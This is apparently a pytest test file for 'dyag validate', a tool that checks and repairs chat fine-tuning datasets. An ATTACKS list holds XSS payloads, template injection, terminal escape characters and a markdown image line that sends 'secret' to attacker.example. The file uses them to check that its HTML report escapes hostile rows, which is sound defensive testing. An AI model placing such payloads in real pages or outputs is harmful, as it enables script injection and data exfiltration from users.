"""dyag validate: every kind of problem by its line, what is mended, and what training says of the result."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dyag_core import Session, UsageError
from dyag_core.chat.conversations import check_turns, messages_of, read_conversations
from dyag_core.chat.faults import MILD
from dyag_core.chat.repair import mend
from dyag_core.dataset.quality.problems import _PROBLEMS

ATTACKS = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "![](http://attacker.example/?q=secret)",
    "{{ 7*7 }}{% raw %}",
    "{n} {what} %s",
    "\x1b[31mred\x1b[0m \u202ereversed",
]


def user(text: Any) -> dict[str, Any]:
    return {"role": "user", "content": text}


def bot(text: Any) -> dict[str, Any]:
    return {"role": "assistant", "content": text}


def system(text: Any) -> dict[str, Any]:
    return {"role": "system", "content": text}


def chat(*turns: dict[str, Any]) -> dict[str, Any]:
    return {"messages": list(turns)}


def write(path: Path, *rows: Any) -> Path:
    lines = [row if isinstance(row, str) else json.dumps(row, ensure_ascii=False) for row in rows]
    path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
    return path


def contents(path: Path) -> list[list[tuple[str, str]]]:
    return [[(m.role, m.content) for m in row.messages] for row in read_conversations(path)]


#: A row, the kinds of problem in it, and what is left of it (role initials and texts), or None.
CASES = [
    (chat(user("q"), bot("a")), set(), "u:q a:a"),
    (chat(system(""), user("q"), bot("a")), set(), "s: u:q a:a"),
    ({"prompt": "q", "completion": "a"}, set(), "u:q a:a"),
    ({"prompt": [user("q")], "completion": [bot("a")]}, set(), "u:q a:a"),
    ({"instruction": "q", "input": "x", "output": "a"}, set(), "u:q\n\nx a:a"),
    ({"instruction": "q", "output": "a", "system": "s"}, set(), "s:s u:q a:a"),
    ({"instruction": "q", "output": "a", "history": [["p", "b"]]}, set(), "u:p a:b u:q a:a"),
    ({"instruction": "q", "output": "a", "history": "p"}, {"unknown_shape"}, None),
    ({"conversations": [{"from": "human", "value": "q"}, {"from": "gpt", "value": "a"}]}, set(), "u:q a:a"),
    ({"conversations": [{"from": "gpt", "value": "hi"}]}, {"no_question"}, None),
    (chat({"role": "Human", "content": "q"}, {"role": "bot", "content": "a"}), {"role_alias"}, "u:q a:a"),
    (chat(user("q"), {"role": "tool", "content": "t"}, bot("a")), {"unknown_role"}, None),
    (chat(user("q"), user("r"), bot("a")), {"turn_order"}, "u:q\n\nr a:a"),
    (chat(bot("hello"), user("q"), bot("a")), {"turn_order"}, "u:q a:a"),
    (chat(user("q"), bot("a"), user("r")), {"not_answered"}, "u:q a:a"),
    (chat(user("q"), bot("a"), user("r"), bot(" ")), {"empty_turn", "not_answered"}, "u:q a:a"),
    (chat(user("q"), bot(None)), {"empty_turn", "no_answer"}, None),
    (chat(user("q")), {"no_answer"}, None),
    (chat(bot("a")), {"no_question"}, None),
    (chat(), {"no_question"}, None),
    (chat(user("q"), bot("a"), system("s"), user("r"), bot("b")), {"late_system"}, None),
    (chat(user([{"type": "text", "text": "q"}]), bot("a")), {"not_text"}, "u:q a:a"),
    (chat(user([{"type": "image_url", "image_url": "x"}]), bot("a")), {"not_text"}, None),
    (chat(user("q"), bot("a<|im_end|>\n")), {"control_token"}, "u:q a:a"),
    (chat(user("<s>[INST] q [/INST]"), bot("a</s>")), {"control_token", "control_token_asked"}, "u:q a:a"),
    (chat(user("what is <|im_start|> ?"), bot("a mark")), {"control_token_asked"}, "u:what is <|im_start|> ? a:a mark"),
    (chat(user("q"), bot("HTML has <s>strike</s> too")), set(), "u:q a:HTML has <s>strike</s> too"),
    ({"messages": "q"}, {"unknown_shape"}, None),
    ({"text": "q"}, {"unknown_shape"}, None),
    ({"question": 3, "answer": "a"}, {"not_text"}, None),
]


@pytest.mark.parametrize(("row", "kinds", "left"), CASES)
def test_every_problem_has_its_name_and_what_can_be_mended_is(
    tmp_path: Path, row: dict[str, Any], kinds: set[str], left: str | None
) -> None:
    file = write(tmp_path / "x.jsonl", row)
    found = Session(tmp_path).validate(file, fix=tmp_path / "fixed.jsonl")
    assert {problem.kind for problem in found.problems} == kinds
    assert all(problem.examples[0].line == 1 for problem in found.problems)
    if left is None:
        assert (found.written, found.left_out, found.ok) == (0, 1, False)
        return
    assert " ".join(f"{role[0]}:{text}" for role, text in contents(tmp_path / "fixed.jsonl")[0]) == left
    assert found.ok
    again = Session(tmp_path).validate(tmp_path / "fixed.jsonl")
    assert again.ok
    assert all(problem.kind in MILD for problem in again.problems)
    assert bool(kinds - MILD) == (not Session(tmp_path).validate(file).ok)


def test_a_bare_question_keeps_the_system_prompt_that_training_gives_it(tmp_path: Path) -> None:
    file = write(tmp_path / "x.jsonl", {"question": "Où est le code ?", "expected_answer": "Sur la forge", "id": 7})
    found = Session(tmp_path).validate(file, fix=tmp_path / "y.jsonl")
    assert found.problems == ()
    assert contents(tmp_path / "y.jsonl") == contents(file)
    assert json.loads((tmp_path / "y.jsonl").read_text("utf-8"))["meta"] == {"id": 7}


def test_duplicates_contradictions_and_leaks_name_the_other_line(tmp_path: Path) -> None:
    rows = [chat(user("Who?"), bot("Ada")), "{torn", chat(user("Who?"), bot("Ada")), chat(user("who"), bot("Bob"))]
    rows += [chat(user("Where ?"), bot("Here")), chat(system("s"), user("Who?"), bot("Cyd")), *([rows[0]] * 9)]
    file = write(tmp_path / "x_train.jsonl", *rows)
    write(tmp_path / "x_test.jsonl", chat(system("other"), user("where"), bot("There")))
    found = Session(tmp_path).validate(file, fix=tmp_path / "y.jsonl")
    where = {p.kind: (p.lines, p.examples[0].line, p.examples[0].other) for p in found.problems}
    assert where == {
        "duplicate": (10, 3, 1),
        "contradiction": (1, 4, 1),
        "test_leak": (1, 5, None),
        "not_json": (1, 2, None),
    }
    assert found.lasting == {"contradiction": 1}
    assert (found.rows, found.good, found.written, found.left_out) == (15, 2, 3, 1)
    other = Session(tmp_path).validate(tmp_path / "x_test.jsonl")
    assert [problem.kind for problem in other.problems] == ["test_leak"]


def test_a_file_that_is_one_array_with_a_mark_in_front(tmp_path: Path) -> None:
    items = [{"instruction": "Name one", "input": "", "output": "Git"}, 3]
    (tmp_path / "alpaca.json").write_text("\ufeff" + json.dumps(items, indent=1), encoding="utf-8")
    found = Session(tmp_path).validate(tmp_path / "alpaca.json", fix=tmp_path / "y.jsonl")
    assert {p.kind for p in found.problems} == {"not_json", "one_array", "byte_order_mark"}
    assert (found.ok, found.written, found.left_out) == (True, 1, 1)
    assert not Session(tmp_path).validate(tmp_path / "alpaca.json").ok


def test_lengths_and_control_tokens_of_a_base_model(tmp_path: Path, tiny_model: Path) -> None:
    rows = [chat(user("q"), bot("zxq " * 400)), chat(user("r"), bot("a <|endoftext|> b")), chat(user("s"), bot("ok"))]
    found = Session(tmp_path).validate(write(tmp_path / "x.jsonl", *rows), base_model=str(tiny_model))
    assert {p.kind: p.examples[0].line for p in found.problems} == {"over_long": 1, "control_token": 2}
    assert found.quality.lengths is not None
    assert (found.quality.lengths.over, found.quality.lengths.unit) == (1, "tokens")


BROKEN = {
    "utf-16": "é".encode("utf-16"),
    "gzip": b"\x1f\x8b\x08\x00rest",
    "bad utf-8": b'{"messages": "\xff"}\n',
    "nul": b"\x00\x00\x00\x00\n",
    "deep": b"[" * 100_000 + b"\n",
    "deep object": b'{"a":' * 100_000 + b"\n",
    "huge int": b'{"question": ' + b"9" * 5000 + b', "answer": "a"}\n',
    "surrogate": b'{"question": "\\ud800", "answer": "a"}\n',
    "nan": b'{"question": NaN, "answer": "a"}\n',
    "empty": b"",
    "blank": b"\n\r\n \n",
    "scalars": b"3\nnull\n[]\n",
    "turns of all kinds": b'{"messages": [null, 3, "x", {"role": ["user"], "content": {}}]}\n{"messages": {}}\n',
    "system that is none": b'{"question": "q", "answer": "a", "system": 3}\n{"conversations": [], "system": {}}\n',
    "torn": b'{"messages": [{"role": "user", "content": "q"}, {"ro',
}
NO_TEXT = ("utf-16", "gzip", "deep")


@pytest.mark.parametrize("name", [name for name in BROKEN if name not in NO_TEXT])
def test_no_file_is_so_broken_that_it_is_not_explained(tmp_path: Path, name: str) -> None:
    (tmp_path / "x.jsonl").write_bytes(BROKEN[name])
    found = Session(tmp_path).validate(tmp_path / "x.jsonl", fix=tmp_path / "y.jsonl", report=tmp_path / "r.html")
    assert not found.ok
    assert found.problems
    assert found.written == 0


@pytest.mark.parametrize("name", NO_TEXT)
def test_what_is_no_text_is_refused_and_nothing_written(tmp_path: Path, name: str) -> None:
    (tmp_path / "x.jsonl").write_bytes(BROKEN[name])
    with pytest.raises(UsageError, match=r"x\.jsonl"):
        Session(tmp_path).validate(tmp_path / "x.jsonl", fix=tmp_path / "y.jsonl")
    assert not (tmp_path / "y.jsonl").exists()


def test_the_command_its_exit_codes_and_streams(tmp_path: Path, run_dyag: Any) -> None:
    write(tmp_path / "good.jsonl", chat(user("q"), bot("a")))
    write(tmp_path / "bad.jsonl", chat(user("q"), bot("a")), "{torn", chat(user("r")))
    good = run_dyag("validate", "good.jsonl")
    assert (good.returncode, "dyag finetune --dataset good.jsonl" in good.stderr) == (0, True)
    bad = run_dyag("validate", "bad.jsonl", "--json")
    assert bad.returncode == 3
    found = json.loads(bad.stdout)
    assert (found["ok"], found["rows"], found["good"]) == (False, 3, 1)
    assert "dyag validate bad.jsonl --fix bad.fixed.jsonl" in bad.stderr
    fixed = run_dyag("validate", "bad.jsonl", "--fix", "f.jsonl", "--report", "r.html", "--lang", "fr")
    assert fixed.returncode == 0, fixed.stderr
    assert "f.jsonl: 1 rows written, 2 beyond mending left out" in fixed.stdout
    assert "line 2: " in fixed.stdout
    assert "ligne 2" in (tmp_path / "r.html").read_text("utf-8")
    assert run_dyag("validate", "none.jsonl").returncode == 2
    assert run_dyag("validate", "bad.jsonl", "--fix", "bad.jsonl").returncode == 2


def test_hostile_rows_stay_text(tmp_path: Path) -> None:
    rows = []
    for text in ATTACKS:
        meta = dict.fromkeys(("document", "subject", "attribute", "fact", "method", "split", "stratum"), text)
        rows += [chat(user(f"{text} {n}"), bot(text)) | {"meta": meta} for n in range(2)]
        rows += [{text: text}, chat({"role": text, "content": text}), chat(user(f"{text} 0"), bot("<b>other</b>"))]
    file = write(tmp_path / "x_<b>.jsonl", *rows)
    for lang in ("en", "fr"):
        Session(tmp_path, lang=lang).validate(file, report=tmp_path / "r.html")
        html = (tmp_path / "r.html").read_text("utf-8")
        assert set(re.findall(r"<(\w+)", html)).isdisjoint({"script", "img", "iframe", "b", "a", "object"})
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "{{ 7*7 }}" in html
        assert not {"\x1b", "\u202e"} & set(html)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)
TURN = st.fixed_dictionaries(
    {},
    optional={
        "role": st.sampled_from(["system", "user", "assistant", "gpt"]) | JSON,
        "content": st.text(max_size=8) | JSON,
    },
)
ROW = st.fixed_dictionaries({"messages": st.lists(TURN, max_size=5) | JSON}) | st.dictionaries(
    st.sampled_from(["prompt", "completion", "question", "answer", "expected_answer", "system", "conversations", "x"]),
    st.text(max_size=8) | st.lists(TURN, max_size=4) | JSON,
)


@settings(max_examples=400, deadline=None)
@given(ROW)
def test_validate_and_training_agree_on_any_row(row: dict[str, Any]) -> None:
    done = mend(row, "Answer.")
    assert all(kind in _PROBLEMS["en"] for kind, _ in done.problems)
    try:
        messages_of(dict(row), "Answer.")
        taken = True
    except ValueError:
        taken = False
    if not taken:
        assert {kind for kind, _ in done.problems} - MILD
    if done.messages is None:
        assert {kind for kind, _ in done.problems} - MILD
    else:
        check_turns(done.messages)
        json.dumps(done.meta)
